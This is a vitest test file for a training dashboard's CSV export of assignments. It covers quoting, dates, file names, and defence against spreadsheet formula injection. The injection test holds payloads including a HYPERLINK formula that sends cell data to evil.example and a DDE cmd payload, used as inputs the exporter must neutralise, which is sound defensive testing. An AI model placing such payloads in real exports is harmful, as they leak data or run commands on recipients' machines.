import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { AssignmentRow } from './dashboard';
import { assignmentCsv, CSV_COLUMNS, csvFileName } from './export';
import { NO_FILTERS } from './dashboard';

const row = (overrides: Partial<AssignmentRow> = {}): AssignmentRow => ({
  assignmentId: '00000000-0000-4000-8000-000000000001',
  userId: '00000000-0000-4000-8000-000000000002',
  name: 'Zoë Ångström',
  email: 'zoe@example.test',
  team: 'Returns, North',
  startDate: '2026-09-01',
  moduleId: '00000000-0000-4000-8000-000000000003',
  moduleTitle: 'Onboarding: "the basics"',
  moduleVersion: 2,
  assignedAt: new Date('2026-11-02T14:00:00Z'),
  dueDate: '2026-11-20',
  status: 'completed-late',
  passedCount: 2,
  scenarioTotal: 2,
  attemptCount: 3,
  criticalFailures: 1,
  fastPasses: 1,
  scorePercent: 69.96,
  startedAt: new Date('2026-11-09T15:00:00Z'),
  completedAt: new Date('2026-11-21T04:30:00Z'),
  ...overrides,
});

const parse = (csv: string) => Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n' }).data;

describe('the assignments CSV', () => {
  it('has a header and one line per row, quoted where needed, dates in the organisation’s zone', () => {
    const csv = assignmentCsv([row()], 'America/New_York', true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const [header, line] = parse(csv);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(Object.fromEntries(header!.map((column, i) => [column, line![i]]))).toEqual({
      Name: 'Zoë Ångström',
      Email: 'zoe@example.test',
      Team: 'Returns, North',
      'Start date': '2026-09-01',
      Module: 'Onboarding: "the basics"',
      'Module version': '2',
      Status: 'Completed late',
      'Scenarios passed': '2',
      'Scenarios in module': '2',
      // Rounded down as everywhere: 69.96 is not a 70.
      'Score (%)': '69',
      Attempts: '3',
      'Attempts failed by a critical error': '1',
      'Attempts passed faster than they could be read': '1',
      'Assigned on': '2026-11-02',
      'Due date': '2026-11-20',
      'Started on': '2026-11-09',
      // 04:30 UTC on the 21st is the 20th in New York.
      'Completed on': '2026-11-20',
    });
    expect(parse(assignmentCsv([row({ team: null, startDate: null, scorePercent: null, startedAt: null, completedAt: null, status: 'not-started' })], 'UTC', false))[0]).toEqual([
      'Zoë Ångström',
      'zoe@example.test',
      '',
      '',
      'Onboarding: "the basics"',
      '2',
      'Not started',
      '2',
      '2',
      '',
      '3',
      '1',
      '1',
      '2026-11-02',
      '2026-11-20',
      '',
      '',
    ]);
  });

  it('joins a header written alone and lines written later into one clean file, as the stream does', () => {
    const whole = assignmentCsv([], 'UTC', true) + assignmentCsv([row()], 'UTC', false) + assignmentCsv([row({ name: 'Second' })], 'UTC', false);
    expect(whole.split('\r\n')).toHaveLength(4);
    expect(whole.endsWith('\r\n')).toBe(true);
    expect(parse(whole).map((line) => line[0])).toEqual(['Name', 'Zoë Ångström', 'Second']);
    expect(assignmentCsv([], 'UTC', false)).toBe('');
  });

  it('counts the attempts failed by a critical error as a number, none as 0', () => {
    const column = CSV_COLUMNS.indexOf('Attempts failed by a critical error');
    expect(CSV_COLUMNS[column - 1]).toBe('Attempts');
    const [none, some] = parse(assignmentCsv([row({ criticalFailures: 0 }), row({ criticalFailures: 4 })], 'UTC', false));
    expect([none![column], some![column]]).toEqual(['0', '4']);
  });

  it('counts the passes faster than their text could be read beside them, and names a file of them so', () => {
    const column = CSV_COLUMNS.indexOf('Attempts passed faster than they could be read');
    expect(CSV_COLUMNS[column - 1]).toBe('Attempts failed by a critical error');
    const [none, some] = parse(assignmentCsv([row({ fastPasses: 0 }), row({ fastPasses: 2 })], 'UTC', false));
    expect([none![column], some![column]]).toEqual(['0', '2']);
    expect(csvFileName({ ...NO_FILTERS, passedFasterThanReading: true }, new Date('2026-11-24T03:00:00Z'), 'UTC')).toBe('frontline-assignments-2026-11-24-fast-passes.csv');
  });

  it('writes anything a spreadsheet would run as a formula as plain text', () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      "  =cmd|' /C calc'!A0",
      '＝1+1',
      '=1+1\nsecond line',
    ];
    const lines = parse(
      assignmentCsv(
        payloads.map((name, i) => row({ name, team: payloads[(i + 1) % payloads.length]!, moduleTitle: payloads[(i + 2) % payloads.length]! })),
        'UTC',
        false,
      ),
    );
    for (const [i, line] of lines.entries()) {
      for (const cell of [line[0], line[2], line[4]]) {
        expect(cell!.startsWith("'"), `${JSON.stringify(cell)} in line ${i}`).toBe(true);
        expect(payloads).toContain(cell!.slice(1));
      }
    }
    // Ordinary text that merely contains the characters is left alone.
    expect(parse(assignmentCsv([row({ name: 'Ana-Maria O’Neil', team: 'A+ team', moduleTitle: 'Email @ work' })], 'UTC', false))[0]!.slice(0, 5)).toEqual([
      'Ana-Maria O’Neil',
      'zoe@example.test',
      'A+ team',
      '2026-09-01',
      'Email @ work',
    ]);
  });

  it('quotes every text cell, so a spreadsheet splitting on ; or a tab never starts a cell inside one', () => {
    const text = assignmentCsv([row({ name: 'Bob;=1+1;x', team: 'A\t=2+2', moduleTitle: 'Plain' })], 'UTC', false);
    const cells = text.trimEnd().split(',');
    expect(cells[0]).toBe('"Bob;=1+1;x"');
    expect(text).toContain('"A\t=2+2"');
    expect(text).toContain('"Plain"');
    // Numbers stay numbers.
    expect(cells[5]).toMatch(/^\d+$/);
    // Read back as CSV, the cells are the text that went in.
    expect(parse(text)[0]!.slice(0, 3)).toEqual(['Bob;=1+1;x', 'zoe@example.test', 'A\t=2+2']);
    for (const separator of [';', '\t']) {
      const resplit = Papa.parse<string[]>(text.trimEnd(), { delimiter: separator }).data[0]!;
      for (const cell of resplit) expect(cell.trimStart(), `split on ${JSON.stringify(separator)}`).not.toMatch(/^[=+@]/);
    }
  });

  it('names the file after the day and the filters, safely', () => {
    expect(csvFileName(NO_FILTERS, new Date('2026-11-24T03:00:00Z'), 'America/New_York')).toBe('frontline-assignments-2026-11-23.csv');
    expect(csvFileName({ ...NO_FILTERS, team: 'Night shift / "B"', status: 'overdue' }, new Date('2026-11-24T03:00:00Z'), 'UTC')).toBe(
      'frontline-assignments-2026-11-24-Night-shift-B-overdue.csv',
    );
    expect(csvFileName({ ...NO_FILTERS, failedByCriticalError: true }, new Date('2026-11-24T03:00:00Z'), 'UTC')).toBe('frontline-assignments-2026-11-24-critical-failures.csv');
  });
});
